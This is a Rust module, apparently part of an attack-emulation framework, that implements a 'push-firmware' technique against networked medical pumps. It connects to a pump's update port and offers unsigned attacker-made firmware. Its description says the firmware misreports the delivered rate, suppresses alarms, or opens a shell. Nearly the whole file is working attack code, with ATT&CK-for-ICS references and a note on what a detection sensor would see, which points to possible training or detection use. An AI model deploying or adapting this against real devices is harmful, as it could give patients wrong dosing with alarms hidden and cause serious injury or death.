//! Offers altered firmware to a pump that takes updates from the network.

use super::altered_load::{ALARMS, BACKDOOR, FACTOR, image};
use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::wire::Message;
use crate::wire::image::ImageKind;
use crate::wire::pump::PumpMessage;

/// Technique `push-firmware`.
#[derive(Debug)]
pub(super) struct PushFirmware;

/// Pump to offer to.
pub(super) const TARGET: Parameter = Parameter {
    name: "target",
    kind: ParameterKind::Host,
    required: true,
    doc: "pump",
};
/// Port to offer at.
pub(super) const PORT: Parameter = Parameter {
    name: "port",
    kind: ParameterKind::Integer,
    required: false,
    doc: "port; 5000 if not given",
};

static ENTRY: Entry = Entry {
    id: "push-firmware",
    title: "Push altered firmware to a pump",
    summary: "Connects to the port on which a pump takes what its server sends, and offers firmware that the attacker made: it delivers another rate \
              than the pump displays, keeps alarms to itself, or opens a shell. It is well formed and carries no maker's signature. A pump that checks nothing or \
              the checksum only stores it, and runs it once it is idle. A sensor sees a connection to the port and a transfer of about a mebibyte.",
    parameters: &[TARGET, PORT, FACTOR, ALARMS, BACKDOOR],
    references: &["T0857", "T0839", "T1542.001", "T0831"],
};

/// Port of a step.
fn port(step: &Step<'_, '_, '_>) -> u16 {
    let given = step.params.integer("port");
    given.and_then(|p| u16::try_from(p).ok()).unwrap_or(5000)
}

/// The course of an offer of an image over the network, for every technique that makes one.
pub(super) fn offer(step: &mut Step<'_, '_, '_>, input: &Input, kind: ImageKind) -> Progress {
    let name = step.params.text("target");
    match input {
        Input::Begin => match step.find(name) {
            Some(ip) => {
                step.hands.connect(ip, port(step));
                Progress::Reached(1)
            }
            None => Progress::Wait,
        },
        Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
            step.found(name, *ip);
            step.hands.connect(*ip, port(step));
            Progress::Reached(1)
        }
        Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
            Progress::Failed("no such name, or no name server")
        }
        Input::Socket(SocketEvent::Failed { refused: true, .. }) => {
            Progress::Failed("connection refused")
        }
        Input::Socket(SocketEvent::Failed { refused: false, .. }) => Progress::Failed("no answer"),
        Input::Socket(SocketEvent::Opened(stream)) => {
            let offer = PumpMessage::ImageOffer(image(step, kind));
            step.hands.send(*stream, Message::Pump(Box::new(offer)));
            Progress::Reached(2)
        }
        Input::Socket(SocketEvent::Message { message, .. }) => match &**message {
            Message::Pump(m) => match **m {
                PumpMessage::ImageAnswer { accepted: true } => Progress::Done("accepted"),
                PumpMessage::ImageAnswer { accepted: false } => Progress::Failed("refused"),
                _ => Progress::Wait,
            },
            _ => Progress::Wait,
        },
        _ => Progress::Wait,
    }
}

impl Technique for PushFirmware {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "connect", "offer", "accepted"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        offer(step, input, ImageKind::Firmware)
    }
}
